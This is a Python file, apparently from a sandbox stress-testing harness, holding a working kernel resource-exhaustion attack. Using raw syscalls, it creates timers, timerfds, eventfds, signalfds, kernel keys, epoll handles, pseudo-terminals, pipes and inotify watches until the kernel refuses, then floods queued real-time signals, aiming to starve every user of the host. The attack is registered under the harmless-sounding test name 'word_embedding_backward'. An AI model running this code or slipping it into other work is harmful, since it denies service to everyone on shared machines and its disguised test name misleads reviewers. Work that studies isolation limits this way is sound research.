"""Hope: timers, watches, polls, keys and pseudo-terminals are counted for nobody and run out for all."""

import ctypes
import os
import select
import signal

from a3 import kit

GOAL = "exhaust"
ROUTE = "kernel"
SCORE = 29.29
HELD = []


def attack():
    """Make each until it is refused, and at most a few thousand."""
    libc = ctypes.CDLL(None, use_errno=True)
    room = ctypes.create_string_buffer(64)
    makers = (lambda: kit.call(222, 1, 0, room), lambda: kit.call(283, 1, 0), lambda: kit.call(290, 1, 0),
              lambda: os.eventfd(0), select.epoll, os.openpty, lambda: kit.call(294, 0), os.pipe,
              lambda: kit.call(289, -1, room, 8, 0), lambda: kit.call(248, b"user", os.urandom(8).hex().encode(), b"x", 1, -4))
    for make in makers:
        for _ in range(2000):
            try:
                HELD.append(make())
            except OSError:
                break
        for fd in range(10, 256):
            kit.attempt(os.close, fd)
    watch = libc.inotify_init1(0)
    for number in range(500):
        kit.attempt(os.mkdir, f"hostile-{number}")
        libc.inotify_add_watch(watch, f"hostile-{number}".encode(), 0xFFF)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    for number in range(2000):
        kit.attempt(kit.call, 129, os.getpid(), signal.SIGRTMIN, room)


word_embedding_backward = kit.in_one_test(attack)
